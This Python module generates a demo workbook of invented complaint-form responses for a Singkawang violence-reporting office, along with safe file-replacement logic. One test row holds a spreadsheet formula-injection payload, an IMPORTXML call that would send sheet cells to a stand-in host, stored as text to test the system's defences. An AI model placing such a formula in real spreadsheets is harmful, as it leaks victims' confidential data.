"""A sample workbook of ~40 made-up responses, as the office's form would collect them.

Every name, number and story here is invented. The rows cover what the worker must
handle: online and hotline entries, anonymous reports, messy phone numbers, en_US
and id_ID date formats, a double submission, a formula injection attempt, a test
submission and a row with nothing to act on.

The demo is built in a hidden folder beside its place and moved in only when done, so
an earlier demo is replaced whole or not at all, and never while it is open.
"""

from __future__ import annotations

import errno
import os
import random
import shutil
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from pathlib import Path

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from config.settings import Settings
from rules.complaint import FIELDS
from rules.errors import InputError, SapaError, TransientError
from sync.stores.local_store import lock_file
from sync.stores.store import AppendRow, Store, Value, WritePlan

_REPORTERS = ["Siti Aminah", "Budi Santoso", "Lina Marlina", "Hendra Wijaya", "Nur Aisyah",
              "Rudi Hartono", "Maria Ulfa", "Agus Salim", "Dewi Lestari", "Yohanes Liu", "", ""]
_VICTIMS = ["A.R.", "S", "Mawar", "NH", "Melati", "R. (12 th)", "Bunga", "DS", "Kenanga", "L",
            "Tiara", "Putri", "Anak laki-laki usia 9", "M.F."]
_PHONES = ["0812-3456-7890", "+62 813 5555 1212", "6285245678901", "0852 4567 8901", "812.9876.5432",
           "08115678123", "+62-821-4455-6677", "0813 1234", "0562639472", ""]
# (story, violence types, victim's sex, child?, perpetrator, place): coherent made-up cases; a child's
# age is brought into the range its story speaks of (_AGES)
_SCENARIOS = [
    ("Korban sering dipukul oleh ayah tirinya ketika mabuk. Tetangga sering mendengar teriakan malam hari.",
     "Fisik, Psikis", "Perempuan", True, "Orang tua", "Rumah tangga"),
    ("Anak saya diganggu teman sekelasnya dan diancam lewat media sosial. Dia tidak mau sekolah lagi.",
     "Psikis", "Laki-laki", True, "Pacar/teman", "Media sosial/daring"),
    ("Saya dipukul suami dan diusir dari rumah bersama dua anak. Sekarang menumpang di rumah kakak.",
     "Fisik, Penelantaran", "Perempuan", False, "Suami/istri", "Rumah tangga"),
    ("Ada anak tetangga yang ditinggal orang tuanya berhari-hari, tidak makan dan tidak sekolah.",
     "Penelantaran", "Laki-laki", True, "Orang tua", "Rumah tangga"),
    ("Murid kami bercerita disentuh secara tidak pantas oleh kerabatnya. Kami butuh pendampingan.",
     "Seksual", "Perempuan", True, "Keluarga/saudara", "Rumah tangga"),
    ("Teman saya ditawari kerja ke luar negeri, paspornya ditahan dan dia tidak bisa pulang.",
     "Perdagangan orang (TPPO), Eksploitasi", "Perempuan", False, "Orang tidak dikenal", "Tempat kerja"),
    ("Korban dimarahi dan dihina setiap hari oleh mertua, dilarang bertemu keluarganya.",
     "Psikis", "Perempuan", False, "Keluarga/saudara", "Rumah tangga"),
    ("Anak perempuan 15 tahun dipaksa menikah dengan pria dewasa oleh keluarganya.",
     "Psikis, Eksploitasi", "Perempuan", True, "Orang tua", "Rumah tangga"),
    ("Istri tetangga sering lebam-lebam di wajah, anaknya juga tampak ketakutan.",
     "Fisik", "Perempuan", False, "Suami/istri", "Rumah tangga"),
    ("Korban diperas dan diancam fotonya disebarkan oleh mantan pacarnya.",
     "Psikis, Seksual", "Perempuan", False, "Pacar/teman", "Media sosial/daring"),
]
_AGES = {0: (6, 14), 1: (11, 16), 3: (5, 12), 4: (8, 15), 7: (15, 15)}  # scenario -> child's ages
_KEC = ["Singkawang Barat", "Singkawang Tengah", "Singkawang Timur", "Singkawang Utara",
        "Singkawang Selatan"]
_KEL = {"Singkawang Barat": ["Pasiran", "Melayu", "Kuala"],
        "Singkawang Tengah": ["Roban", "Sei Wie", "Condong"],
        "Singkawang Timur": ["Nyarumkop", "Pajintan"], "Singkawang Utara": ["Naram", "Setapuk Besar"],
        "Singkawang Selatan": ["Sedau", "Sijangkung"]}
_CONSENT = "Saya setuju data ini digunakan oleh DSP3A Kota Singkawang untuk penanganan pengaduan"
WORKBOOK = "sapa-demo.xlsx"
INJECTION = '=IMPORTXML("http://contoh.invalid/?d="&A2:Z99, "//a")'
START = datetime(2026, 11, 20, 8, 15, 0)
# The demo office at work: the first responses came in a month ago and were worked; the rest arrived in
# the last hour (the quickest first contact is due in an hour): 5 of 37 cases are late, not nearly all.
WORKED = 11  # the cases the demo walks (demo_walk.choose_cases) and the responses the Admin reviews
FRESH_SPAN = timedelta(minutes=55)


def sample_rows(count: int = 40, seed: int = 7, start: datetime = START) -> list[dict[str, object]]:
    """`count` responses by field key; the special rows come first."""
    rng = random.Random(seed)
    rows: list[dict[str, object]] = []
    moment = start
    for i in range(count):
        moment += timedelta(minutes=rng.randint(5, 120))
        rows.append(_ordinary(rng, i, moment))
    if count >= 12:
        rows[3]["channel"] = "Telepon layanan SAPA"
        rows[3]["reporter_name"] = ""
        rows[5]["story"] = INJECTION  # an injection attempt: must stay text
        rows[5]["victim_name"] = "@SUM(1+1)"
        rows[7] = {"timestamp": rows[7]["timestamp"], "channel": "", "reporter_relation": "Lainnya",
                   "consent": _CONSENT}  # nothing to act on
        sent = rows[8]["timestamp"]
        assert isinstance(sent, datetime)
        rows[9] = {**rows[8], "timestamp": sent + timedelta(minutes=2)}  # sent twice
        rows[10] |= {"victim_name": "test", "story": "tes", "reporter_name": "coba", "victim_address": "",
                     "kelurahan": "", "wa_safe_time": "", "in_danger": "Tidak"}
        rows[11] |= {"victim_age": "tujuh tahun", "kecamatan": "Singkawang Pusat",
                     "reporter_phone": "0812-ABC"}
    return rows


Row = dict[str, object]


def split_fresh(rows: list[Row], now: datetime) -> tuple[list[Row], list[Row]]:
    """The first WORKED responses as they are; the others timed anew, evenly over FRESH_SPAN before `now`."""
    fresh = rows[WORKED:]
    step = FRESH_SPAN / max(len(fresh), 1)
    begin = now - FRESH_SPAN
    return rows[:WORKED], [{**row, "timestamp": begin + step * k} for k, row in enumerate(fresh)]


def append_responses(store: Store, rows: list[dict[str, object]], settings: Settings,
                     tab: str = "Respons Formulir 1") -> None:
    """Responses that arrive while the office works, below the others, as the form adds them."""
    questions = settings.form.questions
    store.read([])  # a store writes only over what it has read
    store.write(WritePlan(tuple(
        AppendRow(tab, tuple((questions[f], _cell(row.get(f))) for f in FIELDS)) for row in rows
    )))


def _cell(value: object) -> Value:
    return value if isinstance(value, (str, datetime)) and value != "" else None


def _ordinary(rng: random.Random, i: int, moment: datetime) -> dict[str, object]:
    kecamatan = rng.choice(_KEC)
    story, violence, sex, child, perpetrator, place = _SCENARIOS[i % len(_SCENARIOS)]
    hotline = rng.random() < 0.25
    return {
        "timestamp": moment,
        "channel": "Telepon layanan SAPA" if hotline else rng.choice(["Formulir online", ""]),
        "reporter_name": rng.choice(_REPORTERS),
        "reporter_relation": rng.choice(["Korban sendiri", "Orang tua/keluarga", "Tetangga", "Guru/sekolah"]),
        "reporter_phone": rng.choice(_PHONES) if rng.random() < 0.3 else _phone(rng),
        "wa_safe": rng.choice(["Ya", "Ya", "Tidak", "Hanya pada waktu tertentu", ""]),
        "wa_safe_time": rng.choice(["", "", "Setelah jam 19.00", "Pagi hari saat suami bekerja"]),
        "victim_name": rng.choice(_VICTIMS),
        "victim_sex": sex,
        "victim_age": _child_age(rng, i) if child else rng.choice([str(rng.randint(18, 55)), "", "sekitar 30"]),
        "victim_disability": rng.choice(["Tidak", "Tidak", "Ya", "Tidak tahu", ""]),
        "kecamatan": kecamatan if rng.random() < 0.95 else "Di luar Kota Singkawang",
        "kelurahan": rng.choice(_KEL[kecamatan] + [""]),
        "victim_address": f"Jl. Contoh Gg. {rng.randint(1, 20)} No. {rng.randint(1, 99)}",
        "violence_types": violence,
        "incident_place": place,
        "incident_date": (moment - timedelta(days=rng.randint(0, 20))).strftime(
            rng.choice(["%d/%m/%Y", "%Y-%m-%d", "%d %B %Y"])),
        "perpetrator_relation": perpetrator,
        "story": story,
        "in_danger": rng.choice(["Ya", "Tidak", "Tidak", "Tidak", "Tidak", "Tidak tahu"]),
        "urgent_needs": ", ".join(rng.sample(["Medis", "Tempat aman", "Pendampingan hukum", "Konseling",
                                              "Konseling", "Pendampingan hukum"], rng.randint(0, 1))),
        "consent": _CONSENT,
    }


def _child_age(rng: random.Random, i: int) -> str:
    """A child's age as reporters write it, within the ages the case's story fits (the same draws as
    ever, so the demo's other answers stay as they were)."""
    low, high = _AGES.get(i % len(_SCENARIOS), (3, 17))
    bare, worded = rng.randint(3, 17), rng.randint(5, 16)
    as_number = rng.choice([True, False])
    age = low + ((bare if as_number else worded) - 3) % (high - low + 1)
    return str(age) if as_number else f"{age} tahun"


def _phone(rng: random.Random) -> str:
    """A made-up mobile number, written the many ways reporters write them."""
    digits = f"8{rng.choice('12357')}{rng.randint(10**8, 10**9 - 1)}"
    style = rng.randrange(4)
    if style == 0:
        return f"0{digits[:3]}-{digits[3:7]}-{digits[7:]}"
    if style == 1:
        return f"+62 {digits[:3]} {digits[3:7]} {digits[7:]}"
    if style == 2:
        return f"62{digits}"
    return f"0{digits}"


def write_responses(path: Path, rows: list[dict[str, object]], settings: Settings,
                    tab: str = "Respons Formulir 1") -> None:
    """A workbook holding only the form responses tab, as a fresh form spreadsheet would."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = tab
    questions = settings.form.questions
    sheet.append([questions[f] for f in FIELDS])
    for number, row in enumerate(rows, start=2):
        for col, field in enumerate(FIELDS, start=1):
            value = row.get(field)
            cell = sheet.cell(row=number, column=col)
            if isinstance(value, str):
                value = ILLEGAL_CHARACTERS_RE.sub("", value)  # a sheet cannot hold them
            cell.value = value if value != "" else None
            if isinstance(value, str):
                cell.data_type = "s"  # reporters' text is text, even "=IMPORTXML(...)"
            elif isinstance(value, datetime):
                cell.number_format = "dd/mm/yyyy hh:mm:ss"
    book.save(path)


# --- putting the demo in its folder -------------------------------------------------------


def letters_folder(folder: Path, settings: Settings) -> Path:
    """Where the demo's letters go: a folder inside the demo's, which --force may empty."""
    relative = Path(settings.letters.folder)
    if relative.is_absolute() or not relative.parts or ".." in relative.parts:
        raise InputError(
            f"letters.folder is {settings.letters.folder!r}: the demo needs a folder name inside its own "
            "folder, such as 'Surat SAPA'. Run the demo with the default configuration."
        )
    return folder / relative


def check_replaceable(workbook: Path, letters: Path, *, force: bool) -> None:
    """Refuse to touch an earlier demo unless asked to replace it, and one that is open even then."""
    earlier = [str(p) for p in (workbook, letters) if p.exists()]
    if earlier and not force:
        raise InputError(
            f"{' and '.join(earlier)} already {'exist' if len(earlier) > 1 else 'exists'} (an earlier demo); "
            "the demo changed nothing. Pass --force to replace the earlier demo, its letters too, "
            "or --dir NEW_FOLDER to make a new demo elsewhere."
        )
    check_not_open(workbook, letters)


def check_not_open(workbook: Path, letters: Path) -> None:
    """Refuse while an office program has the demo's workbook or one of its letters open."""
    letter_files = sorted(letters.glob("*.docx")) if letters.is_dir() else []
    for document in (workbook, *letter_files):
        lock = lock_file(document)
        if lock:
            raise TransientError(
                f"{document} is open in LibreOffice or Microsoft Office (lock file {lock}); the demo changed "
                "nothing. "
                "Close it there and run the demo again."
            )


@contextmanager
def staging(folder: Path) -> Iterator[Path]:
    """A hidden folder inside the demo's, on the same disk, so the finished demo moves in with a rename."""
    try:
        folder.mkdir(parents=True, exist_ok=True)
        stage = tempfile.TemporaryDirectory(prefix=".sapa-demo-", dir=folder)
    except OSError as err:
        raise InputError(
            f"cannot make the demo in {folder}: {err.strerror or type(err).__name__}. "
            "Pass --dir a folder you can write to."
        ) from None
    with stage:
        yield Path(stage.name)


def install(stage: Path, workbook: Path, letters: Path) -> None:
    """Move the demo built in `stage` into place: the workbook in one rename, then its letters."""
    check_not_open(workbook, letters)  # again: it may have been opened while the demo was built
    try:
        os.replace(stage / workbook.name, workbook)
    except OSError as err:
        raise _move_error(err, workbook, f"{workbook} was not changed") from None
    staged_letters = stage / letters.relative_to(workbook.parent)
    try:
        if letters.exists():
            shutil.rmtree(letters)  # the earlier demo's letters: mixed with the new ones, they would mislead
        if staged_letters.exists():
            letters.parent.mkdir(parents=True, exist_ok=True)
            os.replace(staged_letters, letters)
    except OSError as err:
        raise _move_error(err, letters, f"the new {workbook.name} is in place but its letters are not") from None


def _move_error(err: OSError, target: Path, outcome: str) -> SapaError:
    reason = "the disk is full" if err.errno == errno.ENOSPC else err.strerror or type(err).__name__
    return SapaError(f"cannot put the demo at {target}: {reason}; {outcome}. "
                     "Fix that and run the demo again with --force.")
